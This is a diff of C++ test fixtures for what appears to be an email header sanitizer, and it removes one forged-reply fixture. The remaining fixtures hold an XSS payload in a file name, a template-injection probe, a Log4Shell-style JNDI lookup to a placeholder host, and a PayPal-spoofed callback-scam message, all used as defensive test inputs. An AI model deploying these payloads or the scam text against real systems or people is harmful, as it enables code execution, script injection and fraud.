@@ -35,8 +35,6 @@ std::vector<Fixture> header_fixtures()
                 .text = "You sent a payment of $39.00 to Supplier Ltd. If you did not authorize "
                         "this, call +1 (888) 555-0100.",
                 .mail_from = "service@paypal.com" } },
-        { "HDR_FAKE_REPLY", { .subject = "Re: Minutes" },
-            { .subject = "Re: Minutes", .extra = "In-Reply-To: <b@ourfirm.example>\r\n" } },
         { "HDR_XSS_PAYLOAD", { .file = "a <img src=x onerror=alert(1)>.txt" },
             { .file = "a (img on error).txt" } },
         { "HDR_XSS_PAYLOAD", { .subject = "Notes {{7*7}} and ${jndi:ldap://x.example/a}" },
